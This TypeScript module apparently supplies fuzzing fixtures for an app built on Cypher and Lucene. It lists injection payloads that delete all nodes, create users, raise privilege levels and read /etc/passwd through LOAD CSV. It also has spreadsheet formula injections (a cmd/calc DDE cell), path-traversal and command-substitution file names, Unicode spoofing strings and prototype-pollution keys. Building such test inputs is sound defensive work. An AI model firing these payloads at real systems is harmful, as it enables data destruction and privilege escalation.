/** Ways out of a statement, of a label, of a string, of a Lucene expression. */
const breaks = [
  "') RETURN 1 //",
  "'}) DETACH DELETE n //",
  '") YIELD node RETURN node //',
  '`) MATCH (n) DETACH DELETE n //',
  '`:Entity) SET n.level = 0 //',
  '\u0060 UNION CALL db.labels() YIELD label RETURN label',
  '\\u0060) MATCH (n) DETACH DELETE n //',
  '\\u0027}) MATCH (u:User) SET u.level = 3 //',
  "' UNION MATCH (n) RETURN n //",
  "' OR 1=1 //",
  "' OR true RETURN n LIMIT 1 //",
  '} RETURN 1 UNION MATCH (u:User) RETURN u {',
  "CALL dbms.security.createUser('x','y',false)",
  "CALL apoc.load.json('http://127.0.0.1/')",
  "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
  'MATCH (n) SET n:User REMOVE n:Entity',
  "CREATE (u:User {account: 'mallory', level: 3})",
  'DROP CONSTRAINT entity_id',
  '*:*',
  'names:*',
  'names:(* OR *) AND (',
  'searchToken:*',
  ') OR searchToken:(*',
  '+(a) -searchToken:(b)',
  'a) +(names:*',
  '/.*/',
  '/[a-z]*/ OR',
  '[a TO z]',
  '{* TO *}',
  'quill~0.1',
  '"unclosed',
  'a^999999999',
  '\\',
  '&& || ! ( ) { } [ ] ^ " ~ * ? : \\ /',
  '$tokens',
  '${tokens}',
  '$query IN $tokens',
  '{"$gt": ""}',
  '{{7*7}}',
  '%27%20OR%201=1',
  'MATCH (n) WHERE n.level > 0 RETURN n',
];

/** How a text is wrapped on its way in. */
const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Quillfeather${text}`,
  (text) => `Quillfeather ${text}`,
  (text) => `${text} Quillfeather`,
  (text) => `"${text}"`,
  (text) => `(${text})`,
  (text) => encodeURIComponent(text),
  (text) =>
    Array.from(text)
      .map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`)
      .join(''),
  (text) => text.replaceAll(' ', '/**/'),
  (text) => text.replaceAll(' ', '\t\n'),
  (text) => text.toUpperCase(),
  (text) => text.replaceAll("'", '\u2019').replaceAll('"', '\uFF02'),
  (text) => `\u0000${text}`,
  (text) => `${text}\uFEFF`,
];

/** At least five hundred different texts against Cypher and Lucene. */
export const cypherPayloads: readonly string[] = [
  ...new Set(breaks.flatMap((text) => wrappings.map((wrap) => wrap(text)))),
];

/** Texts that are shown, compared or counted otherwise than they look. */
export const unicodeTexts: readonly string[] = [
  'Аmara Villanueva',
  'Amara\u200BVillanueva',
  '\u202Eavreuanalliv aramA',
  '\u2066Amara\u2069',
  'Ama\u0301ra',
  'Am\u00E1ra',
  'Ａｍａｒａ',
  'ﬁﬂ ligature',
  'İstanbul ıi',
  'ẞß ss',
  '\uD800 alone',
  '👩‍👩‍👧‍👦 Family',
  'z̷̢͎a̸l̵g̶o̴'.repeat(40),
  '\u0000',
  'a'.repeat(100_000),
  '\u0301'.repeat(5_000),
  '٠١٢٣٤٥٦٧٨٩',
  '中'.repeat(400),
];

/** Names of files that lead elsewhere. */
export const wanderingNames: readonly string[] = [
  '../../../../tmp/corridor-was-here.csv',
  '..\\..\\corridor-was-here.csv',
  '/tmp/corridor-was-here.csv',
  'C:\\corridor-was-here.csv',
  'file:///tmp/corridor-was-here.csv',
  '....//....//corridor-was-here.csv',
  '%2e%2e%2fcorridor-was-here.csv',
  'corridor-was-here.csv\u0000.png',
  '.',
  '..',
  'CON',
  '~/corridor-was-here.csv',
  '$(touch corridor-was-here).csv',
  `${'n'.repeat(250)}.csv`,
];

/** Cells that a spreadsheet would compute, and that lead out of it. */
export const formulaTexts: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://127.0.0.1/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  '＝1+1',
  '"=1+1',
];

/** Names of members by which an object reaches its prototype. */
export const prototypeNames: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];
